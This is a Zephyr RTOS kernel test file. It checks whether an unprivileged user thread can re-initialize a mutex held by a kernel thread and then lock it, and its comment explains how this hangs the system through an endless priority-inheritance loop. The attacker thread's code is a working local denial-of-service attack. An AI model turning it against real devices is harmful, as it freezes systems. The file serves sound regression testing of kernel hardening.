/*
 * A mutex shared by a kernel thread and a user thread (the user thread is
 * granted it: a normal design). While the kernel thread holds it, the user
 * thread calls k_mutex_init() on it, which the syscall accepts for any
 * object the caller may use, and then locks it. The mutex's list node is
 * still linked in the kernel thread's list of held mutexes, and now also
 * in the attacker's; when the kernel thread takes another mutex and then
 * waits for this one, the priority-inheritance walk over the attacker's
 * list goes round the merged lists for ever, with interrupts locked.
 *
 * Expected of a sound kernel: the re-initialization of a held mutex does
 * not take effect (an error or an oops of the caller), so the attacker's
 * lock fails and the kernel thread, still the owner, locks it again
 * recursively. Its own app: today the system hangs here.
 */
#include "attack.h"

K_MUTEX_DEFINE(shared_mutex);
K_MUTEX_DEFINE(kernel_mutex);
K_SEM_DEFINE(holder_locked, 0, 1);
K_SEM_DEFINE(holder_go, 0, 1);
K_SEM_DEFINE(attacker_park, 0, 1);
static struct k_thread holder Z_KOBJ_SECTION(k_thread);
static K_THREAD_STACK_DEFINE(holder_stack, 1024);
static volatile int holder_rc = 1;

static void holder_body(void *p1, void *p2, void *p3)
{
	ARG_UNUSED(p1);
	ARG_UNUSED(p2);
	ARG_UNUSED(p3);
	(void)k_mutex_lock(&shared_mutex, K_FOREVER);
	k_sem_give(&holder_locked);
	(void)k_sem_take(&holder_go, K_FOREVER);
	(void)k_mutex_lock(&kernel_mutex, K_FOREVER);
	printk("  holder: waiting 20 ms for the mutex the attacker re-initialized and locked\n");
	holder_rc = k_mutex_lock(&shared_mutex, K_MSEC(20));
	(void)k_mutex_unlock(&kernel_mutex);
	while (k_mutex_unlock(&shared_mutex) == 0) {
	}
}

static void reinit_and_lock(void *p1, void *p2, void *p3)
{
	ARG_UNUSED(p1);
	ARG_UNUSED(p2);
	ARG_UNUSED(p3);
	ATK_BEFORE();
	atk.arg = (uintptr_t)k_mutex_init(&shared_mutex);
	atk.value = (uintptr_t)k_mutex_lock(&shared_mutex, K_NO_WAIT);
	ATK_AFTER();
	(void)k_sem_take(&attacker_park, K_FOREVER);
}

ZTEST(attacks_mutex_reinit, test_01_reinit_held_mutex_then_lock)
{
	k_thread_create(&holder, holder_stack, K_THREAD_STACK_SIZEOF(holder_stack), holder_body,
			NULL, NULL, NULL, K_PRIO_PREEMPT(0), 0, K_NO_WAIT);
	zassert_ok(k_sem_take(&holder_locked, K_MSEC(100)));
	/* A refusal by oops is fine. */
	atk_prepare("reinit_held_mutex_then_lock", (uintptr_t)&shared_mutex, reinit_and_lock,
		    NULL, NULL, true);
	k_object_access_grant(&shared_mutex, &atk_thread);
	k_object_access_grant(&attacker_park, &atk_thread);
	k_thread_start(&atk_thread);
	k_msleep(2);
	ztest_set_fault_valid(false);
	printk("  attacker: k_mutex_init returned %d, k_mutex_lock returned %d\n", (int)atk.arg,
	       (int)atk.value);
	k_sem_give(&holder_go);
	zassert_ok(k_thread_join(&holder, K_MSEC(200)), "the kernel thread never finished");
	printk("  holder: k_mutex_lock returned %d\n", holder_rc);
	zassert_ok(holder_rc, "the kernel thread lost its mutex");
	zassert_true(atk.reached == 0 || atk.value != 0, "the attacker locked a held mutex");
	k_thread_abort(&atk_thread);
	atk_launch();
	atk_assert_alive();
}

ZTEST_SUITE(attacks_mutex_reinit, NULL, NULL, NULL, NULL, NULL);
